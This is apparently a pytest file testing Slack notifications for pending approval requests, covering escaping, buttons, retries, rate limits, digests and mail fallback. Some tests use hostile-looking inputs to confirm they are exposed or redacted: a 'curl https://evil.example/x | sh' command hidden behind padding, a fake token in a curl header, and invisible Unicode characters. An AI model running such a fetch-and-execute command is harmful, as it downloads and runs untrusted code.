"""Messages in Slack: what they say, what becomes of them, and how they are brought up to date; over a real server."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime, timedelta
from typing import Any

import pytest

from app.domain.choices import DEFAULT, FIRST, Choice, Choices, Rhythm, Way
from app.domain.errors import ForbiddenError, InvalidInputError
from app.domain.events import EventKind
from app.domain.notices import Channel, NoticeKind
from app.domain.people import Role, Via
from app.risk.assess import assess_proposal
from app.services.notifications.delivery_rows import DeliveryPlan, new_row, write_in
from app.services.notifications.preferences import NotificationPreferences
from app.store.people import Person
from assent.contracts import RiskLevel, Verdict
from tests.factories import add_event, make_person, make_request, optimizations, plan, script, tool_call
from tests.notify.conftest import PostOffice, make_office
from tests.slackserver import LIMITED, TOKEN, SlackServer, buttons, words

SECRET = "ghp_" + "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5"
BY_SLACK = Choices(
    {kind: Choice(Way.SLACK, RiskLevel.SAFE, Way.DIGEST) for kind in DEFAULT}, digest_by=Way.SLACK,
)  # fmt: skip

BOTH_NOW = Choice(Way.BOTH, RiskLevel.SAFE, Way.BOTH)


@pytest.fixture
def slack() -> Iterator[SlackServer]:
    """A workspace."""
    server = SlackServer()
    server.start()
    yield server
    server.stop()


@pytest.fixture
def office(database_url: str, slack: SlackServer) -> Iterator[PostOffice]:
    """A post office with a Slack app."""
    made = make_office(database_url, slack_bot_token=TOKEN, slack_api_url=slack.url, slack_timeout_seconds=1)
    yield made
    made.desk.engine.dispose()


def joins(office: PostOffice, slack: SlackServer, name: str = "DBA on call", choices: Choices = BY_SLACK) -> Any:
    """Somebody who reads Slack: the person and their user there."""
    person = make_person(office.desk.sessions, name)
    NotificationPreferences(office.desk.sessions, office.desk.clock).choose(person.as_actor(Via.PAGE), choices)
    return person, slack.add(person.email)


def open_one(office: PostOffice, requester: Person | None = None, **values: Any) -> Any:
    """A pending request of a run."""
    document = script(**values) if values else script("delete from orders")
    return office.desk.open(document, requester.as_actor(Via.PAGE) if requester else None)


def test_a_message_has_the_heart_of_the_proposal_and_buttons(office, slack) -> None:
    _, user = joins(office, slack)
    request = open_one(office, content="select 1\n-- <!channel> ``` *bold*", title="Count <orders> & *more*")
    office.work_all()
    [message] = slack.to(user)
    assert message["text"].startswith("Your decision is needed: Medium risk: Count &lt;orders&gt; &amp; ∗more∗")
    header, *_ = message["blocks"]
    assert header["text"] == {"type": "plain_text", "text": "Medium risk: Count <orders> & *more*", "emoji": False}
    [code] = [block for block in message["blocks"] if block["type"] == "rich_text"]
    assert code["elements"][0]["elements"] == [{"type": "text", "text": "select 1\n-- <!channel> ``` *bold*"}]
    assert "is rejected" in words(message) and "<!date^" in words(message)
    found = buttons(message)
    assert set(found) == {"approve", "reject", "request_changes", "modify", "open"}
    assert json.loads(found["approve"]["value"])[1:] == [request.id, request.digest]
    assert found["open"]["url"] == f"https://assent.example/requests/{request.id}"
    [delivery] = office.of(request)
    assert (delivery.channel, delivery.state, delivery.reference.split(":")[0]) == ("slack", "sent", f"D{user}")


@pytest.mark.parametrize(("content", "clear"), [("./deploy.sh", False), ("ls docs", True)])
def test_a_message_says_what_was_not_understood(office, slack, content: str, clear: bool) -> None:
    _, user = joins(office, slack)
    payload = script(content, "Deploy") | {"language": "shell"}
    assessment = assess_proposal(payload).to_json()
    request = make_request(office.desk.sessions, payload=payload, risk=RiskLevel.HIGH, assessment=assessment)
    with office.desk.sessions.begin() as session:
        add_event(session, EventKind.REQUEST_OPENED, request_id=request.id)
    office.work_all()
    [message] = slack.to(user)
    assert ("Not understood: not everything that would run" in words(message)) == (not clear)
    assert (", line 1, not understood: " in words(message)) == (not clear)
    level = f"Risk: high ({assessment['score']:.1f} of 10)"
    assert f'"{level}{"" if clear else ", not understood"}"' in words(message)


def test_nothing_hidden_stays_hidden_and_no_secret_leaves(office, slack) -> None:
    _, user = joins(office, slack)
    long = "\n".join(f"select {number} -- {'x' * 400}" for number in range(400))
    open_one(office, content=f"curl -H 'token: {SECRET}'\u202e x\n{long}", title="Call \u200b" + "y" * 300)
    office.work_all()
    [message] = slack.to(user)
    assert SECRET not in json.dumps(slack.calls) and "⟨U+202E⟩" in words(message) and "\u202e" not in words(message)
    assert "⟨U+200B⟩" in message["blocks"][0]["text"]["text"] and "more lines" in words(message)


def test_a_joined_emoji_is_shown_as_it_is_in_every_channel(office, slack) -> None:
    _, user = joins(office, slack, choices=replace(BY_SLACK, kinds=dict.fromkeys(DEFAULT, BOTH_NOW)))
    title = "Mail the \U0001f469\u200d\U0001f4bb of \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
    request = open_one(office, content="select 1", title=title)
    office.work_all()
    [message] = slack.to(user)
    [kept] = [delivery for delivery in office.of(request) if delivery.channel == "mail"]
    assert message["blocks"][0]["text"]["text"] == f"Medium risk: {title}" and title in message["text"]
    assert title in kept.subject and title in (kept.text or "") and title in (kept.html or "")


def approving(message: dict[str, Any]) -> str:
    """What the button says that approves, or opens the window for it."""
    return str(buttons(message)["approve"]["text"]["text"])


LINES = "\n".join(f"select {number}" for number in range(14))
STATEMENT = "create index a on b (c)\n  where " + " and ".join(f"column_{number} > 0" for number in range(20))


@pytest.mark.parametrize(
    "values",
    [
        {"content": f"{LINES}\nselect 15"},
        {"content": f"select 1 -- {'x' * 160}"},
        {"content": "\n".join(["-- " + "\u202e" * 30] * 14)},
        {"content": "select 1" + "\n" * 40 + "drop table orders"},
        {"content": "select 1", "title": "x" * 150},
        {"content": "select 1", "summary": "word " * 200},
        {"content": "select 1", "findings": [{"level": "error", "words": "This is wrong."}]},
    ],
    ids=["lines", "long line", "written out", "below empty lines", "title", "summary", "reported"],
)
def test_where_a_message_shows_a_part_approving_opens_a_window(office, slack, values) -> None:
    _, user = joins(office, slack)
    document = script(values["content"], values.get("title", "A title")) | {"summary": values.get("summary", "")}
    document |= {"findings": values.get("findings", [])}
    for asked in (document, script(LINES)):
        office.desk.open(asked)
        office.work_all()
    cut, whole = slack.to(user)
    assert approving(cut) == "Approve…"
    assert approving(whole) == "Approve", "one tap is enough where all can be seen"


def test_statements_and_arguments_are_part_of_what_is_shown(office, slack) -> None:
    _, user = joins(office, slack)
    documents = [optimizations(1), tool_call({"to": "all@example.com"})]
    documents[0]["items"][0]["statement"] = STATEMENT
    for document in documents:
        office.desk.open(document)
        office.work_all()
    index, mail = slack.to(user)
    assert "create index a on b (c)" in words(index) and approving(index) == "Approve…"
    assert "all@example.com" in words(mail) and approving(mail) == "Approve"


def test_a_message_about_a_plan_says_which_steps_require_their_own_approval(office, slack) -> None:
    _, user = joins(office, slack)
    document = plan()
    document["steps"] = [document["steps"][0], document["steps"][3]]
    office.desk.open(document)
    office.work_all()
    [message] = slack.to(user)
    assert "  find_unused@1.0; only reads" in words(message)
    assert "  workflow table_report; changes something; requires its own approval" in words(message)
    assert approving(message) == "Approve", "the message shows all of it"


def test_blanks_push_nothing_out_of_sight(office, slack) -> None:
    _, user = joins(office, slack)
    open_one(office, content=f"echo ok;{' ' * 160}curl https://evil.example/x | sh", title="Say that all is well")
    office.work_all()
    [message] = slack.to(user)
    assert "echo ok; ⟨160 blanks⟩ curl https://evil.example/x | sh" in words(message)


def test_the_message_is_rewritten_when_it_is_decided_elsewhere(office, slack) -> None:
    (first, one), (_, two) = joins(office, slack), joins(office, slack, "Second DBA")
    request = open_one(office)
    office.work_all()
    assert buttons(slack.to(one)[0]) and buttons(slack.to(two)[0])
    office.desk.decide(request, first.as_actor(Via.PAGE))
    office.work_all()
    for user in (one, two):
        message = slack.to(user)[0]
        assert set(buttons(message)) == {"open"}, "no dead buttons"
        assert "This is approved, by DBA on call" in words(message)


def test_the_message_is_rewritten_when_it_expires(office, slack) -> None:
    _, user = joins(office, slack)
    request = open_one(office)
    office.work_all()
    office.desk.clock.ahead = request.expires_at - request.opened_at
    office.desk.keep(request)
    office.work_all()
    assert "expired" in words(slack.to(user)[0]) and set(buttons(slack.to(user)[0])) == {"open"}


def test_a_change_made_while_it_is_being_sent_is_told_all_the_same(office, slack) -> None:
    person, user = joins(office, slack)
    request = open_one(office)

    def decided_meanwhile(method: str) -> None:
        if method == "chat.postMessage":
            slack.on_call = lambda method: None
            office.desk.decide(request, person.as_actor(Via.PAGE), Verdict.REJECT, comment="No.")
            office.plan()

    slack.on_call = decided_meanwhile
    office.work_all()
    office.work_all()
    assert set(buttons(slack.to(user)[0])) == {"open"}


@pytest.mark.parametrize(
    ("answer", "wait", "reason"),
    [
        (LIMITED, 90, "Slack asked us to wait."),
        ((200, {"Retry-After": "90"}, {"ok": False, "error": "ratelimited"}), 90, "Slack asked us to wait."),
        ((503, {}, "<html>"), 10, "Slack responded with 503."),
        ((200, {}, {"ok": False, "error": "invalid_auth"}), 10, "Slack rejected our token: invalid_auth."),
        ((200, {}, {"ok": False, "error": "of_a_new_kind"}), 10, "Slack said: of_a_new_kind"),
        ((200, {}, "no json"), 10, "Slack said:"),
    ],
)
def test_what_may_pass_is_tried_again(office, slack, answer, wait: int, reason: str) -> None:
    _, user = joins(office, slack)
    request = open_one(office)
    slack.answers.append(answer)
    before = office.desk.clock()
    office.work_all()
    after = office.desk.clock()
    [delivery] = office.of(request)
    assert delivery.state == "pending" and delivery.reason.startswith(reason)
    assert before + timedelta(seconds=wait) <= delivery.due_at <= after + timedelta(seconds=wait * 1.3)
    office.later(seconds=wait * 1.3)
    office.work_all()
    assert len(slack.to(user)) == 1 and office.of(request)[0].state == "sent"


def test_what_slack_refuses_for_good_has_failed_with_the_reason(office, slack) -> None:
    _, user = joins(office, slack)
    del slack.users[user]
    request = open_one(office)
    office.work_all()
    delivery, mail = office.of(request)
    assert delivery.state == "failed" and "users_not_found" in delivery.reason and "Profile, Slack" in delivery.reason
    assert delivery.reason.endswith("It is sent by email instead.") and (mail.channel, mail.state) == ("mail", "sent")


def test_a_roundup_for_somebody_unknown_in_slack_comes_by_mail(office, slack) -> None:
    later = {kind: Choice(Way.DIGEST, RiskLevel.SAFE, Way.DIGEST) for kind in DEFAULT}
    _, user = joins(office, slack, choices=Choices(later, Rhythm.HOURLY, digest_by=Way.SLACK))
    del slack.users[user]
    request = open_one(office, title="Count orders", content="select 1")
    office.work_all()
    office.later(minutes=61)
    office.work_all()
    [roundup] = [delivery for delivery in office.of() if delivery.kind == "digest" and delivery.channel == "mail"]
    assert roundup.state == "sent" and "Count orders" in (roundup.text or "")
    assert [(delivery.state, delivery.digest_id) for delivery in office.of(request)] == [("sent", roundup.id)]


def test_what_neither_slack_nor_a_browser_takes_comes_by_mail_once(office, slack) -> None:
    person, user = joins(office, slack)
    del slack.users[user]
    request = open_one(office)
    with office.desk.sessions.begin() as session:
        row = new_row(
            f"{request.id}:asked:0.{request.digest}:{person.id}:browser", NoticeKind.ASKED, Channel.BROWSER,
            office.desk.clock(), person_id=person.id, request_id=request.id, digest=request.digest,
        )  # fmt: skip
        write_in(session, [DeliveryPlan(row)])
    office.work_all()
    found = sorted((delivery.channel, delivery.state) for delivery in office.of(request))
    assert found == [("browser", "failed"), ("mail", "sent"), ("slack", "failed")]


def test_admins_learn_by_mail_that_slack_rejects_the_token(office, slack) -> None:
    _, user = joins(office, slack)
    admin = make_person(office.desk.sessions, "Portal admin", [Role.ADMIN])
    slack.refuse = lambda method, given: (200, {}, {"ok": False, "error": "token_revoked"})
    open_one(office)
    office.work_all()
    [told] = [delivery for delivery in office.of() if delivery.kind == "channel_refused"]
    assert (told.person_id, told.channel, told.state) == (admin.id, "mail", "sent")
    assert "Slack refuses the messages of Assent" in (told.text or "") and "token_revoked" in (told.text or "")
    slack.refuse = lambda method, given: None
    office.later(minutes=1)
    office.work_all()
    assert len(slack.to(user)) == 1


@pytest.mark.usefixtures("still")
def test_many_at_once_go_out_at_the_pace_of_slack(office, slack) -> None:
    _, user = joins(office, slack)
    last: list[datetime] = []
    refused: list[datetime] = []

    def one_a_second(method: str, given: dict[str, Any]) -> Any:
        now = office.desk.clock()
        if method != "chat.postMessage":
            return None
        if last and now - last[-1] < timedelta(seconds=0.9):
            refused.append(now)
            return (429, {"Retry-After": "2"}, {"ok": False, "error": "ratelimited"})
        last.append(now)
        return None

    slack.refuse = one_a_second
    for _ in range(25):
        open_one(office)
    seconds = 0
    while len(slack.to(user)) < 25 and seconds < 45:
        office.work()
        office.later(seconds=1)
        seconds += 1
    assert len(slack.to(user)) == 25 and len(refused) <= 3


def test_a_pause_holds_for_everything_to_one_person_and_for_nobody_else(office, slack) -> None:
    (_, one), (_, two) = joins(office, slack), joins(office, slack, "Second DBA")
    refused: list[str] = []

    def once(method: str, given: dict[str, Any]) -> Any:
        if method != "chat.postMessage" or given["channel"] != f"D{one}" or refused:
            return None
        refused.append(method)
        return LIMITED

    slack.refuse = once
    requests = [open_one(office) for _ in range(3)]
    office.work()
    assert len(refused) == 1 and slack.to(one) == [] and len(slack.to(two)) == 3
    states = {delivery.state for request in requests for delivery in office.of(request)}
    assert states == {"pending", "sent"}
    office.later(seconds=94)
    office.work()
    assert len(slack.to(one)) == 3


def test_who_has_not_chosen_is_notified_where_the_organization_wants(office, slack) -> None:
    person = make_person(office.desk.sessions, "DBA on call")
    user = slack.add(person.email)
    preferences = NotificationPreferences(office.desk.sessions, office.desk.clock)
    with pytest.raises(ForbiddenError):
        preferences.choose_first(person.as_actor(Via.PAGE), "slack", FIRST)
    admin = office.desk.person("Admin", [Role.ADMIN])
    with pytest.raises(InvalidInputError):
        preferences.choose_first(admin, "pigeon", FIRST)
    preferences.choose_first(admin, "slack", FIRST)
    assert preferences.of(person.as_actor(Via.PAGE)).digest_by is Way.SLACK
    chooser = make_person(office.desk.sessions, "Second DBA")
    preferences.choose(chooser.as_actor(Via.PAGE), Choices())
    request = open_one(office)
    office.work_all()
    channels = {delivery.person_id: delivery.channel for delivery in office.of(request)}
    assert len(slack.to(user)) == 1
    assert (channels[person.id], channels[chooser.id]) == ("slack", "mail"), "what people choose themselves holds"


def test_slack_is_down_for_an_hour_and_nothing_is_lost(office, slack) -> None:
    _, user = joins(office, slack)
    slack.stop()
    requests = [open_one(office) for _ in range(3)]
    for _ in range(12):
        office.work_all()
        office.later(minutes=5)
    assert {delivery.state for request in requests for delivery in office.of(request)} == {"pending"}
    assert "Slack does not respond" in office.of(requests[0])[0].reason
    slack.start()
    office.later(minutes=15)
    office.work_all()
    assert len(slack.to(user)) == 3


def test_an_answer_that_comes_too_late_is_not_waited_for_and_the_message_posted_again(office, slack) -> None:
    _, user = joins(office, slack)
    request = open_one(office)
    given_up = threading.Event()

    def late(method: str) -> None:
        if method == "chat.postMessage":
            given_up.wait(20)

    slack.on_call = late
    began = time.monotonic()
    office.work_all()
    assert time.monotonic() - began < 10, "the time-out is that of the settings"
    given_up.set()
    slack.on_call = lambda method: None
    [delivery] = office.of(request)
    assert delivery.state == "pending" and delivery.reason
    office.later(minutes=1)
    office.work_all()
    assert office.of(request)[0].state == "sent"
    assert 1 <= len(slack.to(user)) <= 2, "what was given up may have arrived: the documented window"


def test_a_rewriting_that_slack_does_not_take_is_tried_again(office, slack) -> None:
    person, user = joins(office, slack)
    request = open_one(office)
    office.work_all()
    office.work_all()
    office.desk.decide(request, person.as_actor(Via.PAGE))
    slack.answers += [LIMITED]
    office.work_all()
    [delivery] = [delivery for delivery in office.of(request) if delivery.kind == "asked"]
    assert "could not be updated. Slack asked us to wait." in delivery.reason
    assert "approve" in buttons(slack.to(user)[0])
    office.later(seconds=120)
    office.work_all()
    assert set(buttons(slack.to(user)[0])) == {"open"} and office.of(request)[0].reason == ""


def test_both_may_be_chosen_and_a_digest_comes_over_slack(office, slack) -> None:
    both = Choices({kind: Choice(Way.BOTH, RiskLevel.SAFE, Way.DIGEST) for kind in DEFAULT})
    _, user = joins(office, slack, choices=both)
    later = {kind: Choice(Way.DIGEST, RiskLevel.SAFE, Way.DIGEST) for kind in DEFAULT}
    _, other = joins(office, slack, "Second DBA", Choices(later, Rhythm.HOURLY, digest_by=Way.SLACK))
    request = open_one(office, title="Count * of <orders>", content="select 1")
    office.work_all()
    assert sorted(delivery.channel for delivery in office.of(request)) == ["mail", "slack", "slack"]
    assert len(slack.to(user)) == 1 and slack.to(other) == []
    office.later(minutes=61)
    office.work_all()
    [digest] = slack.to(other)
    assert digest["text"] == "1 update in your notification roundup"
    assert buttons(digest)["open"]["text"]["text"] == "Open the queue"
    assert "1 update in your notification roundup" in words(digest)
    assert "Count ∗ of &lt;orders&gt;" in words(digest) and f"/requests/{request.id}" in words(digest)


def test_quiet_hours_hold_and_escalations_do_not_wait(office, slack) -> None:
    now = office.desk.clock()
    quiet = ((now - timedelta(hours=1)).time(), (now + timedelta(hours=1)).time())
    person, user = joins(office, slack, choices=replace(BY_SLACK, quiet=quiet))
    request = open_one(office)
    office.work_all()
    assert slack.to(user) == [] and office.of(request)[0].state == "held"
    office.desk.checkpoints.escalate(request.id, person.as_actor(Via.PAGE), "It is urgent.")
    office.work_all()
    [message] = slack.to(user)
    assert "This has been escalated" in words(message) and "It is urgent." in words(message)
    office.later(minutes=61)
    office.work_all()
    assert len(slack.to(user)) == 2


def test_without_a_slack_app_messages_are_kept(outbox: PostOffice) -> None:
    person = make_person(outbox.desk.sessions, "DBA on call")
    NotificationPreferences(outbox.desk.sessions, outbox.desk.clock).choose(person.as_actor(Via.PAGE), BY_SLACK)
    request = open_one(outbox, content="select '<b>'", title="Count <i>")
    outbox.work()
    [delivery] = outbox.of(request)
    assert (delivery.channel, delivery.state) == ("slack", "sent")
    assert "[ Approve ]" in (delivery.text or "") and "select '<b>'" in (delivery.text or "")
    assert "Count &lt;i&gt;" in (delivery.html or "") and "<b>" not in (delivery.html or "")


def test_nobody_is_told_what_is_not_for_them(office, slack) -> None:
    starter, user = joins(office, slack, "The starter")
    open_one(office, starter)
    office.work_all()
    assert slack.to(user) == [], "the requester is not asked"
